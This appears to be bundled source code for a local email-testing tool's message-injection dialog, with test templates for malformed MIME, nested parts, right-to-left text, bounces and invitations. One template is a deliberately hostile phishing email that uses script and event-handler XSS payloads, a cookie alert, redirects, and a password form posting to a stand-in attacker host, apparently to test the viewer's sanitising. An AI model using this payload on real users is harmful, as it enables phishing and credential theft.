import {
  Button,
  Dialog,
  Icon,
  Link,
  RecipientChip,
  Rule,
  Segments,
  a,
  compose,
  d,
  injectTo,
  layer,
  message,
  messages,
  route,
  sample,
  size,
  t,
  useFetched
} from "./c-chunk.js";

// src/templates.ts
function head(subject, now, more = []) {
  return ["From: Shop <app@shop.example>", "To: Anna Berg <anna@customers.example>", `Subject: ${subject}`, `Date: ${now.toUTCString().replace("GMT", "+0000")}`, `Message-ID: <${now.getTime()}@shop.example>`, "MIME-Version: 1.0", ...more].join(`
`);
}
var HOSTILE = `<!doctype html><html lang="en"><head><title>Your account</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css.png) }</style>
<script>top.location = "https://evil.example/"; alert(document.cookie)<\/script></head>
<body onload="alert('onload')">
<h1>Your account will be closed</h1>
<p><img src="https://tracker.example/open.gif?u=anna" width="1" height="1" onerror="alert('onerror')"></p>
<p><a href="javascript:alert('link')">Confirm now</a> or <a href="https://evil.example/login">https://bank.example/login</a></p>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('focus')"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<svg><script>alert('svg')<\/script></svg>
</body></html>`, EVENT = `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//mailsink//composer//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:meeting-1@shop.example
DTSTAMP:20261122T090000Z
DTSTART:20261201T130000Z
DTEND:20261201T140000Z
SUMMARY:Review of the new shop
LOCATION:Room 3
ORGANIZER:mailto:app@shop.example
ATTENDEE;RSVP=TRUE:mailto:anna@customers.example
END:VEVENT
END:VCALENDAR`, TEMPLATES = [
  {
    name: "template.hostile",
    make: (now) => `${head("Your account will be closed", now, ["Content-Type: text/html; charset=utf-8"])}

${HOSTILE}
`
  },
  {
    name: "template.broken",
    make: (now) => `${head("=?utf-8?B?QnJva2Vu?= =?utf-8?Q?_MIME=", now, ['Content-Type: multipart/mixed; boundary="never"', "Content-Transfer-Encoding: 9bit", "no colon in this line", "Content-Type: text/plain"])}

--other
Content-Type: text/html; charset=no-such-charset
Content-Transfer-Encoding: base64

!!! this is not base64 !!!
--other
Content-Type: image/png; name*=utf-8''%E2%82%ZZ.png

nothing ends here
`
  },
  {
    name: "template.nested",
    make: (now) => {
      let open = Array.from({ length: 30 }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"

--b${at}
`).join(""), close = Array.from({ length: 30 }, (_, at) => `--b${29 - at}--
`).join("");
      return `${head("Thirty parts deep", now)}
${open}Content-Type: text/plain; charset=utf-8

The bottom.
${close}`;
    }
  },
  {
    name: "template.rtl",
    make: (now) => `${head("=?utf-8?B?2KrZhSDYtNit2YYg2LfZhNio2YM=?=", now, ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"])}

<html lang="ar" dir="rtl"><body><h1>تم شحن طلبك</h1><p>مرحبا آنا، طردك في الطريق إليك. الرمز: <bdi>482913</bdi></p></body></html>
`
  },
  {
    name: "template.long",
    make: (now) => `${head(`${"Donaudampfschifffahrtsgesellschaft".repeat(12)} ${"and so on ".repeat(60)}`, now, ["Content-Type: text/plain; charset=utf-8"])}

${"x".repeat(5e3)}
${"https://shop.example/" + "path/".repeat(300)}
`
  },
  {
    name: "template.bounce",
    make: (now) => `${head("Undelivered Mail Returned to Sender", now, ["Auto-Submitted: auto-replied", 'Content-Type: multipart/report; report-type=delivery-status; boundary="r"']).replace("Shop <app@shop.example>", "MAILER-DAEMON@mail.shop.example")}

--r
Content-Type: text/plain; charset=us-ascii

The message could not be delivered.
--r
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.shop.example

Final-Recipient: rfc822; nobody@customers.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 no such user
--r
Content-Type: message/rfc822

From: app@shop.example
To: nobody@customers.example
Subject: Your order

Hello.
--r--
`
  },
  {
    name: "template.invitation",
    make: (now) => `${head("Review of the new shop", now, ['Content-Type: multipart/alternative; boundary="c"'])}

--c
Content-Type: text/plain; charset=utf-8

You are invited.
--c
Content-Type: text/calendar; charset=utf-8; method=REQUEST

${EVENT}
--c--
`
  }
];

// src/views/layers/InjectHead.tsx
function InjectHead({ letter, set }) {
  return /* @__PURE__ */ a("details", { class: "head-fields", open: letter.headers !== "", children: [
    /* @__PURE__ */ a("summary", { children: [
      t("inject.head"),
      " ",
      !letter.fromField && !letter.toField && /* @__PURE__ */ a("span", { class: "dim", children: [
        "· ",
        t("inject.asEnvelope")
      ] })
    ] }),
    /* @__PURE__ */ a("div", { class: "pair", children: [
      /* @__PURE__ */ a(Field, { name: t("inject.fromField"), value: letter.fromField, hint: letter.from, set: (fromField) => set({ fromField }) }),
      /* @__PURE__ */ a(Field, { name: t("inject.toField"), value: letter.toField, hint: letter.to, set: (toField) => set({ toField }) })
    ] }),
    /* @__PURE__ */ a("label", { children: [
      t("inject.headers"),
      /* @__PURE__ */ a("textarea", { class: "inp", rows: 1, spellcheck: !1, placeholder: "X-Mailsink-Run: 9912", value: letter.headers, onInput: (event) => set({ headers: event.currentTarget.value }) })
    ] })
  ] });
}
function Field({ name, value, set, required, first, hint }) {
  return /* @__PURE__ */ a("label", { children: [
    name,
    /* @__PURE__ */ a("input", { class: "inp", value, required, placeholder: hint, autofocus: first, autocomplete: "off", spellcheck: !1, onInput: (event) => set(event.currentTarget.value) })
  ] });
}

// src/views/layers/letter.ts
function begin() {
  let message2 = route.value.id ? messages.shown.peek().message : void 0, rcpt = message2?.envelope.recipients[0]?.original, subject = message2?.summary.subject ?? "";
  return {
    from: rcpt ?? "app@shop.example",
    to: message2?.summary.replyTo?.[0]?.address ?? message2?.summary.from?.[0]?.address ?? "anna@customers.example",
    cc: "",
    fromField: "",
    toField: "",
    subject: message2 ? /^re:/i.test(subject) ? subject : `Re: ${subject}` : "",
    headers: message2?.summary.messageID ? `In-Reply-To: <${message2.summary.messageID}>` : "",
    text: message2?.text ? `

${message2.text.replace(/^/gm, "> ").trimEnd()}
` : "",
    html: "<p>Hello</p>",
    raw: sample(/* @__PURE__ */ new Date()).replaceAll(`\r
`, `
`),
    octets: !1,
    files: []
  };
}
function addresses(list) {
  return list.split(/[\s,;]+/).filter(Boolean);
}
function fields(text) {
  let out = {};
  for (let line of text.split(`
`)) {
    let at = line.indexOf(":");
    at > 0 && (out[line.slice(0, at).trim()] = line.slice(at + 1).trim());
  }
  return out;
}
function enclose(file) {
  return new Promise((resolve, reject) => {
    let reader = new FileReader();
    reader.onload = () => resolve({ filename: file.name, type: file.type || "application/octet-stream", size: file.size, content: String(reader.result).replace(/^[^,]*,/, "") }), reader.onerror = () => reject(reader.error ?? new Error(file.name)), reader.readAsDataURL(file);
  });
}
async function opened(file) {
  let bytes = new Uint8Array(await file.arrayBuffer());
  try {
    return { raw: lines(new TextDecoder("utf-8", { fatal: !0, ignoreBOM: !0 }).decode(bytes)), octets: !1 };
  } catch {
    let raw = "";
    for (let byte of bytes) raw += String.fromCharCode(byte);
    return { raw: lines(raw), octets: !0 };
  }
}
function lines(text) {
  return text.replaceAll(`\r
`, `
`);
}
function whole({ raw, octets }) {
  let text = raw.replace(/\r?\n/g, `\r
`);
  return octets ? Uint8Array.from(text, (one) => one.charCodeAt(0)) : text;
}
function envelope({ from, to, cc, fromField, toField }) {
  return fromField.trim() || toField.trim() ? { from, to: [...addresses(to), ...addresses(cc)] } : void 0;
}
function composition(letter, html) {
  let { subject, text, files } = letter, from = letter.fromField.trim() || letter.from, to = letter.toField.trim() ? [letter.toField.trim()] : addresses(letter.to), attachments = files.map(({ filename, type, content }) => ({ filename, type, content })), cc = addresses(letter.cc), headers = fields(letter.headers);
  return { from, to, subject, text, ...Object.keys(headers).length && { headers }, ...cc.length && { cc }, ...html && { html: letter.html }, ...attachments.length && { attachments } };
}

// src/views/layers/InjectSheet.tsx
var FORMS = ["text", "html", "raw"];
function useSending(letter, form, times) {
  let [busy, setBusy] = d(!1), [problem, setProblem] = d(""), [sent, setSent] = d([]);
  return { busy, problem, sent, send: async (event) => {
    event.preventDefault(), setBusy(!0), setProblem(""), setSent([]);
    try {
      let ids = [];
      for (let n = 0; n < times; n++)
        ids = (form === "raw" ? await injectTo(whole(letter), { from: letter.from, to: addresses(letter.to) }) : await compose(composition(letter, form === "html"), envelope(letter))).ids;
      setSent(ids);
    } catch (cause) {
      setProblem(cause instanceof Error ? cause.message : String(cause));
    }
    setBusy(!1);
  } };
}
function InjectSheet({ onClose }) {
  let [letter, setLetter] = d(begin), [form, setForm] = d("text"), [times, setTimes] = d(1), { busy, problem, sent, send } = useSending(letter, form, times), set = (change) => setLetter((old) => ({ ...old, ...change })), take = (name) => {
    let template = TEMPLATES.find((one) => one.name === name);
    template && (set({ raw: template.make(/* @__PURE__ */ new Date()), octets: !1 }), setForm("raw"));
  }, open = async (file) => {
    set(await opened(file)), setForm("raw");
  }, forms = FORMS.map((value) => ({ value, text: t(`inject.${value}`) }));
  return /* @__PURE__ */ a(Dialog, { title: t("inject.title"), class: "inject", onClose, children: /* @__PURE__ */ a("form", { class: "stack", onSubmit: (event) => {
    send(event);
  }, children: [
    /* @__PURE__ */ a("p", { class: "notebar calm", children: t("inject.stays") }),
    /* @__PURE__ */ a("div", { class: "pair", children: [
      /* @__PURE__ */ a(Field, { name: "MAIL FROM", value: letter.from, set: (from) => set({ from }) }),
      /* @__PURE__ */ a(Field, { name: "RCPT TO", value: letter.to, required: !0, set: (to) => set({ to }) })
    ] }),
    form !== "raw" && /* @__PURE__ */ a("div", { class: "pair", children: [
      /* @__PURE__ */ a(Field, { name: t("inject.subject"), value: letter.subject, first: !0, set: (subject) => set({ subject }) }),
      /* @__PURE__ */ a(Field, { name: t("msg.cc"), value: letter.cc, set: (cc) => set({ cc }) })
    ] }),
    form !== "raw" && /* @__PURE__ */ a(InjectHead, { letter, set }),
    /* @__PURE__ */ a("div", { class: "one-line", children: [
      /* @__PURE__ */ a(Segments, { label: t("inject.form"), options: forms, value: form, onChange: setForm }),
      /* @__PURE__ */ a("span", { class: "gap" }),
      /* @__PURE__ */ a("select", { class: "inp template", "aria-label": t("inject.template"), value: "", onChange: (event) => take(event.currentTarget.value), children: [
        /* @__PURE__ */ a("option", { value: "", children: t("inject.template") }),
        TEMPLATES.map(({ name }) => /* @__PURE__ */ a("option", { value: name, children: t(name) }, name))
      ] }),
      /* @__PURE__ */ a(OpenFile, { open })
    ] }),
    /* @__PURE__ */ a("textarea", { class: "inp", rows: 9, "aria-label": t(`inject.${form}`), spellcheck: form === "text", value: letter[form], onInput: (event) => set({ [form]: event.currentTarget.value }) }),
    form !== "raw" && /* @__PURE__ */ a(Files, { files: letter.files, set: (files) => set({ files }) }),
    problem && /* @__PURE__ */ a("p", { class: "bad", role: "alert", children: problem }),
    sent.length > 0 && /* @__PURE__ */ a(Sent, { ids: sent }),
    /* @__PURE__ */ a("p", { class: "answers", children: [
      /* @__PURE__ */ a("label", { class: "times", children: [
        t("inject.times"),
        /* @__PURE__ */ a("input", { class: "inp", type: "number", min: 1, max: 1e3, value: times, onInput: (event) => setTimes(Math.max(1, Math.min(1e3, event.currentTarget.valueAsNumber || 1))) })
      ] }),
      /* @__PURE__ */ a("span", { class: "gap" }),
      /* @__PURE__ */ a(Button, { label: t("act.close"), onClick: onClose }),
      /* @__PURE__ */ a(Button, { label: t("inject.send"), kind: "primary", remote: !0, icon: "send", submit: !0, disabled: busy })
    ] })
  ] }) });
}
function OpenFile({ open }) {
  let take = (input) => {
    let [file] = input.files ?? [];
    file && open(file), input.value = "";
  };
  return /* @__PURE__ */ a("label", { class: "btn", children: [
    /* @__PURE__ */ a(Icon, { name: "mail" }),
    " ",
    t("inject.open"),
    /* @__PURE__ */ a("input", { type: "file", accept: ".eml,message/rfc822", class: "sr", onChange: (event) => take(event.currentTarget) })
  ] });
}
function Files({ files, set }) {
  let add = async (event) => {
    let input = event.currentTarget, more = await Promise.all([...input.files ?? []].map(enclose));
    input.value = "", set([...files, ...more]);
  };
  return /* @__PURE__ */ a("div", { class: "files", children: [
    /* @__PURE__ */ a("label", { class: "btn", children: [
      /* @__PURE__ */ a(Icon, { name: "clip" }),
      " ",
      t("inject.attach"),
      /* @__PURE__ */ a("input", { type: "file", multiple: !0, class: "sr", onChange: (event) => {
        add(event);
      } })
    ] }),
    files.map((file, at) => /* @__PURE__ */ a("span", { class: "file", children: [
      /* @__PURE__ */ a("bdi", { children: file.filename }),
      " ",
      /* @__PURE__ */ a("span", { class: "dim", children: size(file.size) }),
      /* @__PURE__ */ a(Button, { label: t("inject.unattach", { name: file.filename }), icon: "close", bare: !0, kind: "quiet", onClick: () => set(files.filter((_, other) => other !== at)) })
    ] }, at))
  ] });
}
function Sent({ ids }) {
  let [id] = ids, { data } = useFetched(`sent ${id}`, (signal) => message(id, signal));
  return /* @__PURE__ */ a("div", { class: "ok", role: "status", children: [
    /* @__PURE__ */ a("p", { children: [
      t("inject.sent"),
      " ",
      ids.map((one) => /* @__PURE__ */ a("span", { onClick: () => layer.value = "", children: [
        /* @__PURE__ */ a(Link, { to: { id: one, tab: "delivery" }, children: /* @__PURE__ */ a("code", { children: one }) }),
        " "
      ] }, one))
    ] }),
    /* @__PURE__ */ a("ul", { class: "ways", children: data?.envelope.recipients.map((one, at) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a(RecipientChip, { address: one.original }),
      " ",
      one.trace?.length ? one.trace.map((step, nth) => /* @__PURE__ */ a(Rule, { table: step.table, line: step.line }, nth)) : /* @__PURE__ */ a("span", { class: "dim", children: t("delivery.noRule") }),
      " → ",
      /* @__PURE__ */ a("code", { children: one.final })
    ] }, at)) })
  ] });
}
export {
  InjectSheet as inject
};
